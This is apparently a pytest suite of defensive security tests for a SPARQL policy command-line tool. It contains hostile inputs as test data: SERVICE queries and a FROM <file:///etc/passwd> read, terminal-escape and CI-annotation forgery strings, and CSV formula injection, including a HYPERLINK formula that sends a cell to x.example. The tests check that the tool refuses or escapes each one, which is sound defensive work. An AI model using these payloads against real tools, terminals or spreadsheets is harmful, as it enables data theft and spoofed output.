"""Hostile input to ``pypolicy query`` and ``pypolicy load`` (issue 18), through the real
command line: ``python -m pypolicy`` in a child process, with local listeners on
127.0.0.1 standing in for the network (never another address).

The security cases are marked ``security``.
"""

from __future__ import annotations

import csv
import http.server
import io
import json
import os
import signal
import socket
import socketserver
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from example_sets import real_examples_dir

ROOT = Path(__file__).resolve().parents[1]
EXAMPLES = str(real_examples_dir())  # the five real ones: examples/ has synthetic ones too
ITNET = str(ROOT / "examples" / "itnet.policy.json")
STORES = ["memory", "oxigraph"]
UNSAFE = ("\x1b", "\x9b", "\u202e", "\x07", "\r")

security = pytest.mark.security


@dataclass(frozen=True)
class Run:
    code: int
    out: str
    err: str
    seconds: float


def pypolicy(*args: str, prelude: str = "", timeout: float = 120, cwd: Path | None = None
             ) -> Run:
    """``python -m pypolicy ARGS``; ``prelude`` is Python run first in that process (to
    take a wall down, so that the next wall is what a test sees)."""
    command = [sys.executable, "-c",
               prelude + "\nimport sys\nfrom pypolicy.cli.main import main\n"
               "sys.exit(main(sys.argv[1:]))", *args]
    begin = time.monotonic()
    done = subprocess.run(command, capture_output=True, text=True, timeout=timeout,
                          cwd=cwd or ROOT, env={**os.environ, "PYTHONPATH": str(ROOT)},
                          check=False)
    run = Run(done.returncode, done.stdout, done.stderr, time.monotonic() - begin)
    assert "Traceback" not in run.err, run.err
    assert "panicked" not in run.err and "memory allocation of" not in run.err, run.err
    return run


# ------------------------------------------------------------------------------ listeners


class Listener:
    """A TCP listener on 127.0.0.1 that records every connection made to it."""

    def __init__(self) -> None:
        self.socket = socket.socket()
        self.socket.bind(("127.0.0.1", 0))
        self.socket.listen(16)
        self.socket.settimeout(0.1)
        self.port: int = self.socket.getsockname()[1]
        self.received: list[bytes] = []
        self._stop = False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop:
            try:
                connection, _ = self.socket.accept()
            except (TimeoutError, OSError):
                continue
            with connection:
                connection.settimeout(1)
                try:
                    self.received.append(connection.recv(4096) or b"<connected>")
                except OSError:
                    self.received.append(b"<connected>")

    def close(self) -> None:
        self._stop = True
        self._thread.join(5)
        self.socket.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


Handler = Callable[[http.server.BaseHTTPRequestHandler], None]


@pytest.fixture
def endpoint() -> Iterator[Callable[[Handler], str]]:
    """``endpoint(handler)`` serves POSTs on 127.0.0.1 with ``handler``; its base URL."""
    servers: list[socketserver.TCPServer] = []

    def start(handler: Handler) -> str:
        class Serve(http.server.BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                self.rfile.read(length)
                handler(self)

            def log_message(self, *args: Any) -> None:
                pass

        server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Serve)
        server.daemon_threads = True
        threading.Thread(target=server.serve_forever, daemon=True).start()
        servers.append(server)
        return f"http://127.0.0.1:{server.server_address[1]}"

    yield start
    for server in servers:
        server.shutdown()
        server.server_close()


def answer(body: bytes | str, status: int = 200, kind: str = "application/json",
           headers: dict[str, str] | None = None) -> Handler:
    data = body.encode() if isinstance(body, str) else body

    def handle(request: http.server.BaseHTTPRequestHandler) -> None:
        request.send_response(status)
        request.send_header("Content-Type", kind)
        request.send_header("Content-Length", str(len(data)))
        for name, value in (headers or {}).items():
            request.send_header(name, value)
        request.end_headers()
        request.wfile.write(data)

    return handle


# ------------------------------------------------------------------------------ (1) SERVICE

NO_GUARD = ("import pypolicy.sparql.safety as s\n"
            "s._refuse_remote = lambda *a, **k: None\n"
            "s.refuse_remote_keywords = lambda *a, **k: None\n")


@security
@pytest.mark.parametrize("store", STORES)
def test_a_carriage_return_does_not_end_a_comment_for_the_guard_only(
        store: str, listener: Listener) -> None:
    query = (f"SELECT * WHERE {{ ?s ?p ?o # c\rSERVICE <http://127.0.0.1:{listener.port}/x>"
             " { ?a ?b ?c }\n}")
    run = pypolicy("query", "--store", store, "-q", query, EXAMPLES)
    assert run.code == 2 and "--query:2:1: SERVICE is refused" in run.err
    assert listener.received == []


@security
@pytest.mark.parametrize("store", STORES)
@pytest.mark.parametrize("silent", ["", "SILENT "])
def test_the_worker_reaches_no_network_even_past_the_guard(store: str, silent: str,
                                                           listener: Listener) -> None:
    """The guard taken down: the engines still cannot open a connection."""
    query = (f"SELECT * WHERE {{ ?s ?p ?o . SERVICE {silent}<http://127.0.0.1:{listener.port}"
             "/sparql> { ?a ?b ?c } } LIMIT 1")
    run = pypolicy("query", "--store", store, "-q", query, EXAMPLES, prelude=NO_GUARD)
    assert listener.received == []
    if not silent:  # SILENT: the engine swallows the failure, as SPARQL says it must
        assert run.code == 2 and "nothing was sent" in run.err


@security
def test_an_endpoint_never_gets_a_service_query(listener: Listener) -> None:
    query = (f"SELECT * WHERE {{ ?s ?p ?o # c\rSERVICE <http://127.0.0.1:{listener.port}/x>"
             " { ?a ?b ?c }\n}")
    run = pypolicy("query", "--endpoint", f"http://127.0.0.1:{listener.port}/q", "-q", query)
    assert run.code == 2 and "SERVICE is refused" in run.err
    assert listener.received == []


@security
def test_escaped_keywords_are_refused_with_their_place() -> None:
    run = pypolicy("query", "-q", "SELECT * WHERE {\n  SERVIC\\u0045 <http://127.0.0.1:9/> "
                   "{ ?s ?p ?o } }", EXAMPLES)
    assert run.code == 2 and "--query:2:3: SERVICE <http://127.0.0.1:9/> is refused" in run.err
    run = pypolicy("query", "-q", "SELECT * \\u0046ROM <file:///etc/passwd> WHERE { ?s ?p ?o }",
                   EXAMPLES)
    assert run.code == 2 and "--query:1:10: FROM <file:///etc/passwd> is refused" in run.err


@security
def test_from_and_from_named_are_labelled_as_written() -> None:
    both = "SELECT * FROM <http://a.example/> FROM NAMED <http://b.example/> WHERE { ?s ?p ?o }"
    run = pypolicy("query", "-q", both, EXAMPLES)
    assert run.code == 2 and "--query:1:10: FROM <http://a.example/> is refused" in run.err
    named = "SELECT * FROM NAMED <http://b.example/> WHERE { GRAPH ?g { ?s ?p ?o } }"
    run = pypolicy("query", "-q", named, EXAMPLES)
    assert run.code == 2 and "FROM NAMED <http://b.example/> is refused" in run.err


# ------------------------------------------------------------------------------ (2) escaping


def hostile_policy(folder: Path, name: str = "hostile.json") -> Path:
    data = json.loads(Path(ITNET).read_text())
    data["provider"]["name"] = "Evil\x1b]8;;http://x.example/\x07click\x1b]8;;\x07 \u202etxt.exe"
    target = folder / name
    target.write_text(json.dumps(data))
    return target


@security
@pytest.mark.parametrize("fmt", ["table", "tsv", "csv", "json", "xml"])
def test_policy_text_reaches_no_output_raw(tmp_path: Path, fmt: str) -> None:
    policy = hostile_policy(tmp_path)
    run = pypolicy("query", "-f", fmt, "-q", "SELECT ?name WHERE { GRAPH ?g {"
                   " ?g pp:provider/pp:name ?name } }", str(policy))
    if fmt == "xml":  # XML 1.0 has no way to carry ESC or BEL at all: said, not cut
        assert run.code == 2 and "XML 1.0 cannot represent" in run.err and run.out == ""
        return
    assert run.code == 0, run.err
    assert "Evil" in run.out
    assert not any(c in run.out.replace("\r\n", "\n") for c in UNSAFE), repr(run.out)


@security
def test_tsv_and_json_escapes_read_back_as_the_same_text(tmp_path: Path) -> None:
    policy = hostile_policy(tmp_path)
    query = "SELECT ?name WHERE { GRAPH ?g { ?g pp:provider/pp:name ?name } }"
    name = json.loads(Path(policy).read_text())["provider"]["name"]
    run = pypolicy("query", "-f", "json", "-q", query, str(policy))
    assert json.loads(run.out)["results"]["bindings"][0]["name"]["value"] == name
    import pyoxigraph as ox

    run = pypolicy("query", "-f", "tsv", "-q", query, str(policy))
    solutions = ox.parse_query_results(run.out, ox.QueryResultsFormat.TSV)
    assert [s["name"].value for s in solutions] == [name]  # type: ignore[union-attr]


@security
def test_file_names_in_errors_cannot_forge_lines(tmp_path: Path) -> None:
    evil = tmp_path / "x\n::error file=README.md,line=1::forged\x1b[2J\n.json"
    evil.write_text("{not json")
    run = pypolicy("query", "-n", "regimes", str(evil))
    assert run.code == 2
    assert not any(line.startswith("::error") for line in run.err.splitlines()), run.err
    assert "\x1b" not in run.err
    query = tmp_path / "q\x1b[31m\n::warning::x.rq"
    query.write_text("SELECT * WHERE { ?s ?p }")
    run = pypolicy("query", "--file", str(query), EXAMPLES)
    assert run.code == 2 and "syntax error" in run.err
    assert not any(line.startswith("::warning") for line in run.err.splitlines()), run.err
    assert "\x1b" not in run.err


@security
def test_query_text_in_error_excerpts_is_escaped() -> None:
    run = pypolicy("query", "-q", 'SELECT * WHERE { ?s ?p "\x1b]0;owned\x07" . FILTER(?x = ) }',
                   EXAMPLES)
    assert run.code == 2 and "syntax error" in run.err
    assert "\x1b" not in run.err and "\x07" not in run.err and "\\x1b]0;owned" in run.err


@security
def test_endpoint_error_bodies_are_escaped(endpoint: Callable[[Handler], str]) -> None:
    url = endpoint(answer("bad\x1b[2J\n::error::forged", status=400, kind="text/plain"))
    run = pypolicy("query", "--endpoint", url, "-q", "ASK {}")
    assert run.code == 2 and "HTTP 400" in run.err
    assert "\x1b" not in run.err and not any(
        line.startswith("::error") for line in run.err.splitlines())


# ------------------------------------------------------------------------------ (3) CSV


@security
def test_csv_cells_never_run_as_formulas(tmp_path: Path) -> None:
    data = json.loads(Path(ITNET).read_text())
    formulas = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "@SUM(A1:A9)", "-2+3",
                "+1+1", "\tlead", "=1"]
    data["title"] = formulas[0]
    data["provider"]["name"] = formulas[1]
    policy = tmp_path / "f.json"
    policy.write_text(json.dumps(data))
    values = " ".join(f'("{f}")' for f in formulas[2:]).replace("\t", "\\t")
    query = ("SELECT ?value WHERE { { GRAPH ?g { ?g pp:title ?value } } UNION"
             " { GRAPH ?g { ?g pp:provider/pp:name ?value } } UNION"
             f" {{ VALUES (?value) {{ {values} (-5) (2.5) }} }} }}")
    run = pypolicy("query", "-f", "csv", "-q", query, str(policy))
    assert run.code == 0, run.err
    cells = [row[0] for row in csv.reader(io.StringIO(run.out))][1:]
    assert sorted(cells) == sorted(["'" + f.replace("\t", "\\x09") if f[0] == "\t" else
                                    "'" + f for f in formulas] + ["-5", "2.5"])


# ------------------------------------------------------------------------------ (5) remote


@security
@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_redirects_are_refused(endpoint: Callable[[Handler], str], listener: Listener,
                               status: int) -> None:
    elsewhere = f"http://127.0.0.1:{listener.port}/sparql"
    url = endpoint(answer("", status=status, headers={"Location": elsewhere}))
    run = pypolicy("query", "--endpoint", f"{url}/q", "-q", "ASK {}")
    assert run.code == 2 and f"redirect to {elsewhere}" in run.err
    assert listener.received == []
    run = pypolicy("load", "--update-endpoint", f"{url}/u", ITNET)
    assert run.code == 2 and "loaded" not in run.out
    ftp = endpoint(answer("", status=302, headers={"Location": "ftp://127.0.0.1/x"}))
    run = pypolicy("query", "--endpoint", ftp, "-q", "ASK {}")
    assert run.code == 2 and "never followed" in run.err


def test_load_reports_success_only_on_success(endpoint: Callable[[Handler], str]) -> None:
    ok = endpoint(answer("", status=204, kind="text/plain"))
    run = pypolicy("load", "--update-endpoint", ok, ITNET)
    assert run.code == 0 and run.out.startswith("loaded 1 policy")
    failing = endpoint(answer("no", status=500, kind="text/plain"))
    run = pypolicy("load", "--update-endpoint", failing, ITNET)
    assert run.code == 2 and "HTTP 500" in run.err and run.out == ""


@pytest.mark.parametrize(("body", "query", "message"), [
    ("[true]", "ASK {}", "not SPARQL 1.1 JSON results"),
    ('{"head": {"vars": ["x"]}, "results": {"bindings": []}}', "ASK {}",
     "answered the ASK query with solutions"),
    ('{"head": {}, "boolean": true}', "SELECT * {}", "answered the SELECT query with a boolean"),
    ('{"head": {"vars": [1, 2]}, "results": {"bindings": []}}', "SELECT * {}",
     "at /head/vars/0"),
    ('{"head": {"vars": ["x"]}, "results": {"bindings": [{"x": null}]}}', "SELECT * {}",
     "at /results/bindings/0/x"),
    ('{"head": {"vars": ["x"]}, "results": {"bindings": [{"x": 5}]}}', "SELECT * {}",
     "at /results/bindings/0/x"),
    ("[" * 100_000 + "]" * 100_000, "SELECT * {}", "nested too deeply"),
    ("\xff\xfe", "SELECT * {}", "not JSON"),
])
def test_malformed_answers_are_clear_errors(endpoint: Callable[[Handler], str], body: str,
                                            query: str, message: str) -> None:
    url = endpoint(answer(body.encode("latin-1")))
    run = pypolicy("query", "--endpoint", url, "-q", query)
    assert run.code == 2 and message in run.err, run.err


@pytest.mark.parametrize("url", ["http://[::1", "http://a b/", "http://x.example:port/",
                                 "http://x.example/\nq", "ftp://x.example/", "http:///path",
                                 "http://x.example:99999/"])
def test_unusable_endpoint_urls(url: str) -> None:
    run = pypolicy("query", "--endpoint", url, "-q", "ASK {}")
    assert run.code == 2 and "--endpoint" in run.err
    run = pypolicy("load", "--update-endpoint", url, ITNET)
    assert run.code == 2 and "--update-endpoint" in run.err


@pytest.mark.parametrize("value", ["inf", "nan", "1e300", "0", "-1", "soon"])
def test_unusable_timeouts(value: str) -> None:
    for command in (["query", "-q", "ASK {}", EXAMPLES], ["load", "--update-endpoint",
                                                         "http://127.0.0.1:9/", ITNET]):
        run = pypolicy(*command, "--timeout", value)
        assert run.code == 2 and "--timeout" in run.err, run.err


def test_a_dripping_endpoint_is_stopped_in_time(endpoint: Callable[[Handler], str]) -> None:
    def drip(request: http.server.BaseHTTPRequestHandler) -> None:
        request.send_response(200)
        request.send_header("Content-Type", "application/json")
        request.end_headers()
        try:
            for _ in range(30):  # bounded: at most 30 s, and the client leaves long before
                request.wfile.write(b" ")
                request.wfile.flush()
                time.sleep(1)
        except OSError:
            pass

    url = endpoint(drip)
    run = pypolicy("load", "--timeout", "2", "--update-endpoint", url, ITNET)
    assert run.code == 2 and "no whole answer within 2 s" in run.err
    assert run.seconds < 15
    run = pypolicy("query", "--timeout", "2", "--endpoint", url, "-q", "ASK {}")
    assert run.code == 2 and run.seconds < 15


def test_a_huge_answer_is_refused(endpoint: Callable[[Handler], str]) -> None:
    url = endpoint(answer(b" " * (65 * 1024 * 1024)))
    run = pypolicy("query", "--endpoint", url, "-q", "SELECT * {}")
    assert run.code == 2 and "larger than 64 MiB" in run.err


# ------------------------------------------------------------------------------ limits


def test_the_time_limit_covers_parsing(tmp_path: Path) -> None:
    values = " ".join(f"({i})" for i in range(60_000))
    query = tmp_path / "values.rq"
    query.write_text(f"SELECT ?x WHERE {{ VALUES (?x) {{ {values} }} }}")
    run = pypolicy("query", "--timeout", "1", "--file", str(query), EXAMPLES)
    assert run.code == 2 and "within 1 s" in run.err
    assert run.seconds < 20


@pytest.mark.parametrize("store", STORES)
def test_the_memory_limit_stops_a_runaway_query_cleanly(store: str) -> None:
    doubling = ("SELECT (STRLEN(?last) AS ?length) WHERE { BIND (\"xxxxxxxxxxxxxxxx\" AS ?a)"
                + "".join(f" BIND (CONCAT(?{c}, ?{c}) AS ?{n})" for c, n in
                          zip("abcdefghijklmnopqrstuvwxy", "bcdefghijklmnopqrstuvwxyz",
                              strict=True)) + " BIND (?z AS ?last) }")
    run = pypolicy("query", "--store", store, "--memory-limit", "700", "--timeout", "60",
                   "-q", doubling, EXAMPLES)
    assert run.code == 2 and "memory" in run.err, run.err
    assert run.seconds < 60


def test_a_query_file_over_the_limit_is_refused_not_cut(tmp_path: Path) -> None:
    query = tmp_path / "long.rq"
    query.write_text("SELECT * WHERE { ?s ?p ?o }\n" + "#" * (4 * 1024 * 1024) + "\nLIMIT 0\n")
    run = pypolicy("query", "--file", str(query), EXAMPLES)
    assert run.code == 2 and "larger than 4 MiB" in run.err and run.out == ""


def test_prefix_detection_is_linear(endpoint: Callable[[Handler], str],
                                    tmp_path: Path) -> None:
    url = endpoint(answer('{"head": {}, "boolean": true}'))
    query = tmp_path / "lines.rq"
    query.write_text("ASK {" + "\n" * 200_000 + "}")
    run = pypolicy("query", "--endpoint", url, "--file", str(query))
    assert (run.code, run.out) == (0, "true\n"), run.err
    assert run.seconds < 30


@pytest.mark.skipif(not Path("/proc").is_dir(), reason="reads /proc (Linux)")
def test_the_worker_dies_with_its_parent() -> None:
    # The parent is killed outright (no cleanup of its own); the worker must not go on.
    script = ("import sys\nfrom pypolicy.cli.main import main\n"
              "sys.exit(main(['query', '--timeout', 'none', '-q', 'SELECT (COUNT(*) AS ?n)"
              " WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }', sys.argv[1]]))")
    parent = subprocess.Popen([sys.executable, "-c", script, EXAMPLES], cwd=ROOT,
                              env={**os.environ, "PYTHONPATH": str(ROOT)})
    try:
        children: list[int] = []
        deadline = time.monotonic() + 60
        while not children and time.monotonic() < deadline:
            time.sleep(0.2)
            children = _children(parent.pid)
        assert children, "no worker started"
        parent.kill()
        parent.wait(10)
        deadline = time.monotonic() + 10
        while any(_alive(c) for c in children) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert not any(_alive(c) for c in children)
    finally:
        if parent.poll() is None:
            parent.kill()


def _children(pid: int) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[1]) == pid:
                found.append(int(entry.name))
    return found


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


@pytest.mark.skipif(not Path("/proc").is_dir(), reason="reads /proc (Linux)")
@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGHUP], ids=["SIGTERM", "SIGHUP"])
def test_a_signal_to_the_parent_ends_the_worker_and_leaves_no_file(tmp_path: Path,
                                                                    signum: int) -> None:
    """``kill -TERM`` (or a closed terminal) during a query with ``-o``: the worker goes
    with its parent, no output and no temporary file is left, and no traceback."""
    out = tmp_path / "out"
    out.mkdir()
    script = ("import sys\nfrom pypolicy.cli.main import main\n"
              "sys.exit(main(['query', '--timeout', 'none', '-o', sys.argv[2], '-q',"
              " 'SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }',"
              " sys.argv[1]]))")
    parent = subprocess.Popen([sys.executable, "-c", script, EXAMPLES, str(out / "answer.tsv")],
                              cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT)},
                              stderr=subprocess.PIPE,
                              # SIGHUP as a terminal delivers it, even under nohup
                              preexec_fn=lambda: signal.signal(signal.SIGHUP, signal.SIG_DFL))
    try:
        children: list[int] = []
        deadline = time.monotonic() + 60
        while not children and time.monotonic() < deadline:
            time.sleep(0.2)
            children = _children(parent.pid)
        assert children, "no worker started"
        time.sleep(1)  # the worker is loading or querying now
        parent.send_signal(signum)
        _, err = parent.communicate(timeout=30)
        deadline = time.monotonic() + 10
        while any(_alive(c) for c in children) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert not any(_alive(c) for c in children)
        assert parent.returncode == -signum and b"Traceback" not in err, err
        assert list(out.iterdir()) == []
    finally:
        if parent.poll() is None:
            parent.kill()


def test_a_group_of_hundreds_of_triple_patterns_parses(tmp_path: Path) -> None:
    """rdflib's grammar recursed past Python's default limit at about 90 patterns in one
    group, reported as a syntax error; now a few hundred run, and past the parser's reach
    the message says what is too long."""
    query = tmp_path / "patterns.rq"
    query.write_text("SELECT * WHERE {\n" + "".join(f"  ?s pp:p{i} ?o{i} .\n" for i in range(300))
                     + "}\n")
    run = pypolicy("query", "--store", "rdflib", "-f", "tsv", "--file", str(query), ITNET)
    assert run.code == 0, run.err
    query.write_text("SELECT * WHERE {\n" + "".join(f"  ?s pp:p{i} ?o{i} .\n"
                                                     for i in range(5000)) + "}\n")
    run = pypolicy("query", "--file", str(query), ITNET)
    assert run.code == 2 and "too many triple patterns in one group" in run.err, run.err
    assert "syntax error" not in run.err
